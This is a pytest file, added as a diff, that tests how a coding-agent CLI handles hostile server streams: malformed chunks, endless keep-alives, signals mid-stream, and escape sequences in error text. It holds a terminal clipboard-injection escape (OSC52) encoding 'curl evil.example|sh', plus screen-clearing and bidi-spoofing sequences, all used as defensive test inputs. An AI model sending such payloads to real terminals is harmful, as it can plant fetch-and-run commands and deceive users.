@@ -1,0 +1,298 @@
+"""Hostile input, part 2: the server is the attacker, byte by byte (agent.py).
+
+A proxy, a small self-hosted server or a hostile endpoint can send anything
+down the stream: keep-alive comments and nothing else, lines that are not
+JSON or not UTF-8, fields of the wrong type, escape sequences in an error
+message, kilobytes of it. Each must end the turn with one `error:` line and
+the resume hint (or be harmless), never a traceback or a hang; every round
+completed before it stays saved, and the session resumes.
+
+The streams are raw bytes (fake_provider.raw and sse) sent over real HTTP to
+the real agent.py, run as a subprocess with a timeout, so a broken defence
+fails its test instead of hanging the suite.
+
+AGENT_UNDER_TEST=/path/to/a/copy/agent.py runs a copy instead of agent.py
+(for mutation testing). The same small fixture is in each test_hostile_*.py.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import signal
+import subprocess
+import time
+from pathlib import Path
+
+import pytest
+
+import conftest
+from conftest import TEST_KEY, run_agent
+from fake_provider import FakeProvider, Reply, error, raw, sequence_error, sse, text, tool_call
+from helpers import Live, assert_one_error_line, disk_messages, hint, new_session_id, resumed, stderr_lines
+
+
+@pytest.fixture(autouse=True)
+def agent_under_test(monkeypatch: pytest.MonkeyPatch) -> None:
+    """With AGENT_UNDER_TEST set, every run of "final" (and every in-process load) uses that copy."""
+    copy = os.environ.get("AGENT_UNDER_TEST")
+    if copy:
+        real = conftest.program
+        monkeypatch.setattr(conftest, "program", lambda chapter: Path(copy) if chapter == "final" else real(chapter))
+
+
+TASK = "Answer, please."
+# Control characters a terminal acts on instead of showing: C0 but tab and newline, DEL, C1, bidi controls.
+CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
+
+
+def assert_no_control(where: str, text_: str) -> None:
+    found = sorted(set(CONTROL.findall(text_)))
+    assert not found, f"raw control characters {found!r} reached {where}: {text_!r}"
+
+
+def chunk(delta: object, finish: object = None, **top: object) -> bytes:
+    """One SSE event holding a chat.completion.chunk with one choice (any field may be made wrong)."""
+    choice = {"index": 0, "delta": delta, "logprobs": None, "finish_reason": finish}
+    return sse({"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": [choice], **top})
+
+
+def piece(**fields: object) -> bytes:
+    """A tool-call fragment; the fields given replace the well-formed ones."""
+    fragment = {"index": 0, "id": "call_x", "type": "function", "function": {"name": "bash", "arguments": "{}"}}
+    return chunk({"tool_calls": [{**fragment, **fields}]})
+
+
+def error_lines(stderr: str) -> list[str]:
+    return [line for line in stderr.splitlines() if line.startswith("error:")]
+
+
+def assert_clean_stop(result: subprocess.CompletedProcess, *needles: str) -> str:
+    """Exit 1, one `error:` line (with the needles), the resume hint last, no traceback. Returns the session ID."""
+    assert result.returncode == 1, (result.returncode, result.stdout, result.stderr)
+    assert "Traceback" not in result.stderr, result.stderr
+    errors = error_lines(result.stderr)
+    assert len(errors) == 1, result.stderr
+    for needle in needles:
+        assert needle in errors[0], (needle, errors[0])
+    session_id = new_session_id(result.stderr)
+    assert stderr_lines(result.stderr)[-1] == hint(session_id), result.stderr
+    return session_id
+
+
+FIRST = tool_call("bash", {"command": "pwd"}, call_id="first")  # a complete round before the trouble
+DONE = b"data: [DONE]\n\n"
+END = chunk({}, "stop") + DONE
+
+
+def first_round(workdir: Path) -> list[dict]:
+    return [
+        {"role": "system"},
+        {"role": "user", "content": TASK},
+        {"role": "assistant", "tool_calls": ["first"]},
+        {"role": "tool", "tool_call_id": "first", "content": f"{workdir}\n"},
+    ]
+
+
+def assert_saved(stored: list[dict], expected: list[dict]) -> None:
+    """The stored messages, in the few fields that identify them."""
+    shapes = [
+        {
+            "role": m["role"],
+            **({"content": m["content"]} if m["role"] in ("user", "tool") else {}),
+            **({"tool_calls": [c["id"] for c in m["tool_calls"]]} if m.get("tool_calls") else {}),
+            **({"tool_call_id": m["tool_call_id"]} if m["role"] == "tool" else {}),
+        }
+        for m in stored
+    ]
+    assert shapes == expected, stored
+
+
+def resume(provider: FakeProvider, workdir: Path, session_id: str) -> list[dict]:
+    """-c the session: it must load, send a valid conversation and answer. Returns what is stored."""
+    provider.replies.clear()
+    provider.script(text("Recovered."))
+    result = run_agent("final", "-c", session_id, "again", provider=provider, cwd=workdir, timeout=60)
+    assert result.returncode == 0, result.stderr
+    assert "Traceback" not in result.stderr and result.stdout == "Recovered.\n", result.stderr
+    assert resumed(result.stderr)[0] == session_id
+    sent = provider.chat_requests[-1]["messages"]
+    assert sequence_error(sent) is None, sent
+    stored = disk_messages(workdir / ".sessions" / f"{session_id}.jsonl")
+    assert stored[-2:] == [{"role": "user", "content": "again"}, {"role": "assistant", "content": "Recovered."}]
+    return stored
+
+
+# ---------------------------------------------------------------- 9. keep-alive comments and nothing else
+
+
+def test_a_stream_that_only_keeps_alive_ends_after_stream_timeout(provider: FakeProvider, workdir: Path) -> None:
+    """One chunk of text, then ": keep-alive" comments forever: each resets the SDK's read timeout,
+    so only STREAM_TIMEOUT ends it. One error line, the hint, exit 1; round 1 stays saved."""
+    provider.script(FIRST, text("half an answer that never ends", pieces=4, keepalive_after=2))
+    started = time.monotonic()
+    result = run_agent("final", TASK, provider=provider, cwd=workdir, timeout=30, STREAM_TIMEOUT="1")
+    elapsed = time.monotonic() - started
+    session_id = assert_clean_stop(result, "no data from", "for 1 s", "keep-alive comments do not count")
+    assert result.stdout == "half an \n"
+    assert elapsed < 15, elapsed
+    stored = disk_messages(workdir / ".sessions" / f"{session_id}.jsonl")
+    assert_saved(stored, first_round(workdir))
+
+
+@pytest.mark.parametrize("value", ["abc", "0", "-5", "inf", "nan", "1e999"])
+def test_a_bad_stream_timeout_is_one_clean_error(provider: FakeProvider, workdir: Path, value: str) -> None:
+    provider.script(text("never asked"))
+    result = run_agent("final", TASK, provider=provider, cwd=workdir, timeout=30, STREAM_TIMEOUT=value)
+    assert_one_error_line(result, "STREAM_TIMEOUT", repr(value))
+    assert provider.requests == []
+    assert not (workdir / ".sessions").exists()
+
+
+# ---------------------------------------------------------------- 10. malformed chunks
+
+TEXT = chunk({"role": "assistant", "content": "partial "})
+MALFORMED = {
+    # Each a stream that must end the turn with one error line. A finish chunk follows where it
+    # would make sense, so the error is the bad chunk's and not that of a stream left unfinished.
+    "not JSON": [TEXT, b"data: {not json\n\n", END],
+    "not UTF-8": [TEXT, b'data: {"choices": [{"index": 0, "delta": {"content": "caf\xe9"}}]}\n\n', END],
+    "content is 5": [TEXT, chunk({"content": 5}), END],
+    "arguments is 7": [piece(function={"name": "bash", "arguments": 7}), chunk({}, "tool_calls"), DONE],
+    "choices is a string": [TEXT, sse({"id": "c", "object": "chat.completion.chunk", "choices": "oops"}), END],
+    "tool_calls is a string": [chunk({"tool_calls": "x"}), chunk({}, "tool_calls"), DONE],
+    "index is a word": [piece(index="first"), chunk({}, "tool_calls"), DONE],
+    "finish_reason is 5": [TEXT, chunk({}, 5), DONE],
+    "an event with no data": [TEXT, b"event: ping\n\n", END],
+    "a chunk that is a JSON list": [TEXT, sse([1, 2, 3]), END],
+}
+# These may also go through: the chunk says nothing wrong, says it in a way the SDK repairs, or
+# (usage) holds only what the status line shows, where anything but a number becomes "?".
+HARMLESS = {
+    "delta is null": [TEXT, chunk(None), END],
+    "no delta": [TEXT, sse({"id": "c", "object": "chat.completion.chunk", "choices": [{"index": 0}]}), END],
+    "index is the string 0": [piece(index="0"), chunk({}, "tool_calls"), DONE],
+    "usage is a string": [TEXT, chunk({}, "stop", usage="lots"), DONE],
+    "a choice that is a number": [TEXT, sse({"id": "c", "object": "chat.completion.chunk", "choices": [5]}), END],
+}
+BUG = pytest.mark.xfail(
+    strict=True,
+    reason="bug: a data line whose JSON is not an object (a list, a string, null) reaches `chunk.usage` "
+    "unchecked: AttributeError, a traceback, and on Python 3.13 a segfault at exit",
+)
+MARKS = {"a chunk that is a JSON list": BUG}
+
+
+@pytest.mark.parametrize("case", [pytest.param(case, marks=MARKS.get(case, ())) for case in [*MALFORMED, *HARMLESS]])
+def test_a_malformed_chunk_ends_the_turn_cleanly_and_the_session_resumes(
+    provider: FakeProvider, workdir: Path, case: str
+) -> None:
+    malformed = case in MALFORMED
+    provider.script(FIRST, raw(*(MALFORMED if malformed else HARMLESS)[case]), text("after a harmless oddity"))
+    result = run_agent("final", TASK, provider=provider, cwd=workdir, timeout=60)
+    assert "Traceback" not in result.stderr, result.stderr
+    assert_no_control("stderr", result.stderr)
+    if malformed or result.returncode != 0:
+        session_id = assert_clean_stop(result)
+        assert error_lines(result.stderr)[0].startswith(
+            ("error: the server sent a malformed stream", "error: the stream")
+        )
+        stored = disk_messages(workdir / ".sessions" / f"{session_id}.jsonl")
+        assert_saved(stored, first_round(workdir))  # round 1 whole, nothing of round 2
+    else:
+        session_id = new_session_id(result.stderr)
+        stored = disk_messages(workdir / ".sessions" / f"{session_id}.jsonl")
+        assert_saved(stored[:4], first_round(workdir))
+        assert sequence_error(stored) is None, stored  # whatever round 2 made of it is a valid conversation
+    after = resume(provider, workdir, session_id)
+    assert after[: len(stored)] == stored
+
+
+# ---------------------------------------------------------------- 2 and 17. what a server says is shown safely
+
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
+
+
+@pytest.mark.parametrize(
+    "reply, needle",
+    [
+        (error(400, f"bad request{OSC52}\x1b[2J\x1b[3J\u202edetaeler\r\x9b2K"), r"bad request\x1b]52;c;Y3Vyb"),
+        (error(400, "x" * 18_000), "x" * 300 + "… [17,700 more characters]"),
+        (error(429, "\x1b[2J" * 6_000), r"\x1b[2J" * 75),
+        (Reply(content="partial", error_after=2), "stream interrupted by the fake provider"),
+        (
+            raw(chunk({"content": "partial"}), sse({"error": {"message": f"boom{OSC52}" + "y" * 18_000}})),
+            r"boom\x1b]52",
+        ),
+    ],
+    ids=["escapes", "18 KB", "18 KB of escapes", "error event", "error event with escapes, 18 KB"],
+)
+def test_a_server_error_message_is_escaped_and_shortened(
+    provider: FakeProvider, workdir: Path, reply: Reply, needle: str
+) -> None:
+    """An HTTP error body or an error event in the stream: one error line, no raw control character
+    on stderr, and no longer than a line should be, whatever the server sent."""
+    provider.script(reply)
+    result = run_agent("final", TASK, provider=provider, cwd=workdir, timeout=60)
+    assert_clean_stop(result, needle)
+    assert_no_control("stderr", result.stderr)
+    assert_no_control("stdout", result.stdout)
+    assert max(len(line) for line in result.stderr.splitlines()) < 2048
+
+
+def test_token_counts_that_are_not_numbers_never_reach_the_terminal(provider: FakeProvider, workdir: Path) -> None:
+    """The usage a server reports is printed in the status lines: only numbers get there."""
+    usage = {
+        "prompt_tokens": f"{OSC52}\x1b[2J",
+        "completion_tokens": 1,
+        "prompt_cache_hit_tokens": "\x1b[1A\r",
+        "prompt_tokens_details": {"cached_tokens": "\x1b]0;owned\x07"},
+    }
+    call_ = piece(id="call_u", function={"name": "bash", "arguments": json.dumps({"command": "pwd"})})
+    provider.script(
+        raw(call_, chunk({}, "tool_calls", usage=usage), DONE),
+        raw(chunk({"content": "Done."}), chunk({}, "stop", usage=usage), DONE),
+    )
+    result = run_agent("final", TASK, provider=provider, cwd=workdir, timeout=60)
+    assert result.returncode == 0 and result.stdout == "Done.\n", result.stderr
+    assert_no_control("stderr", result.stderr)
+    assert "[round 1 input ? tokens, 0 cached]" in result.stderr.splitlines()
+    assert "[2 rounds · last round input ? tokens (0 cached) · finish_reason=stop]" in result.stderr.splitlines()
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="bug: README says the key is never printed, but a server (or a proxy) that echoes the key in "
+    "an error message gets it printed on stderr: describe() escapes and shortens the message, never redacts it",
+)
+def test_a_server_that_echoes_the_key_does_not_get_it_printed(provider: FakeProvider, workdir: Path) -> None:
+    provider.script(error(401, f"Incorrect API key provided: {TEST_KEY}. Find your key at ..."))
+    result = run_agent("final", TASK, provider=provider, cwd=workdir, timeout=60)
+    assert_clean_stop(result, "HTTP 401")
+    assert TEST_KEY not in result.stderr + result.stdout
+
+
+# ---------------------------------------------------------------- 15. stopped mid-stream
+
+
+@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGHUP], ids=["SIGTERM", "SIGHUP"])
+def test_a_stop_signal_mid_stream_exits_130_with_the_rounds_saved(
+    provider: FakeProvider, workdir: Path, number: int
+) -> None:
+    """kill, or a closed terminal, while the answer streams: exit 130, the hint, round 1 on disk."""
+    provider.script(FIRST, text("a long answer that is cut short", pieces=5, pause_after=3))
+    try:
+        with Live("final", TASK, provider=provider, cwd=workdir) as live:
+            provider.wait_paused(timeout=30)
+            live.wait_stdout("a long answer")
+            live.signal(number)
+            result = live.completed(timeout=30)
+    finally:
+        provider.release()
+    assert result.returncode == 130, (result.returncode, result.stderr)
+    assert "Traceback" not in result.stderr, result.stderr
+    session_id = new_session_id(result.stderr)
+    lines = stderr_lines(result.stderr)
+    assert lines[-1] == hint(session_id) and lines[-2].startswith("interrupted"), result.stderr
+    assert_saved(disk_messages(workdir / ".sessions" / f"{session_id}.jsonl"), first_round(workdir))
